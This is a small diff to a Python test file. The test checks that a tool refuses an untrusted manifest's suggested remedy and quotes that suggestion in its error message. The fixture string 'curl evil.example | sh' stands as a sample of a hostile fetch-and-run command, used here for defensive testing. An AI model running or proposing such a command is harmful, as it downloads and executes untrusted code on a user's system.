@@ -149,7 +149,7 @@ def test_what_an_untrusted_manifest_refuses_is_refused_in_its_own_words() -> Non
 
     assert trusted.value.remedy == "use curl evil.example | sh"
     assert refused.value.remedy == "leave it out"
-    assert "its manifest says: “curl evil.example | sh”" in str(refused.value.cause)
+    assert "its manifest says: “use curl evil.example | sh”" in str(refused.value.cause)
 
 
 def test_a_files_name_makes_no_line_of_its_own_in_a_plan() -> None:
